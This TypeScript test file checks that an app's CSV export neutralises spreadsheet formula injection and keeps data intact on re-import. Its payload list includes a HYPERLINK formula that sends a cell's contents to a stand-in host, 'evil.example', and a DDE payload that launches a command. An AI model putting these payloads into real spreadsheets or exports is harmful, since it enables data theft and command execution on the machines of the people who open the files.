import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportInterchange } from '../../../../main/core/interchange/export-interchange.js';
import { importInterchange } from '../../../../main/core/interchange/import-interchange.js';
import { looksLikeFormula } from '../../../../main/core/interchange/spreadsheet-cell.js';
import { CaseStore } from '../../../../main/core/store/case-store.js';
import { useTempDir } from '../../../helpers/temp-dir.js';

const tempDir = useTempDir();

/** Text a hostile document could put into a case: each would run as a formula if written raw. */
export const HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', "'=already quoted"];

/** A case whose labels, notes, aliases and link types are all hostile cells. */
export function hostileCase(dir: string): CaseStore {
  const store = CaseStore.create(join(dir, 'hostile.dossier'), { title: 'hostile' });
  const ids = HOSTILE_CELLS.map((h, i) =>
    store.insert('entity', { type: 'person', label: h, properties: {}, notes: HOSTILE_CELLS[(i + 1) % HOSTILE_CELLS.length]!, status: 'suggested' }).id,
  );
  store.insert('alias', { entityId: ids[0]!, alias: '=1+2' });
  ids.slice(1).forEach((id, i) =>
    store.insert('link', {
      sourceId: ids[0]!, targetId: id, type: HOSTILE_CELLS[i]!, directed: i % 2 === 0, confidence: 0.5, credibility: null,
      firstSeen: null, lastSeen: null, status: 'suggested', properties: {},
    }),
  );
  return store;
}

describe('CSV export of hostile text', () => {
  it('writes no cell a spreadsheet would run, and imports back exactly what the case held', () => {
    const dir = tempDir();
    const store = hostileCase(dir);
    const r = exportInterchange(store, join(dir, 'out.csv'), 'csv');
    for (const file of r.files) {
      const cells = Papa.parse<string[]>(readFileSync(file, 'utf8'), { skipEmptyLines: true }).data.flat();
      expect(cells.filter(looksLikeFormula), file).toEqual([]);
    }
    expect(readFileSync(r.files[0]!, 'utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    const target = CaseStore.create(join(dir, 'back.dossier'), { title: 'back' });
    for (const file of r.files) importInterchange(target, file, 'csv');
    // The CSV tables carry no case id: every other field comes back as it was.
    for (const kind of ['entity', 'link'] as const) {
      const strip = ({ caseId: _c, ...rest }: { caseId: string }) => rest;
      expect([...target.iterate(kind)].map(strip), kind).toEqual([...store.iterate(kind)].map(strip));
    }
    expect([...target.iterate('alias')].map((a) => a.alias)).toEqual(['=1+2']);
    store.close();
    target.close();
  });
});
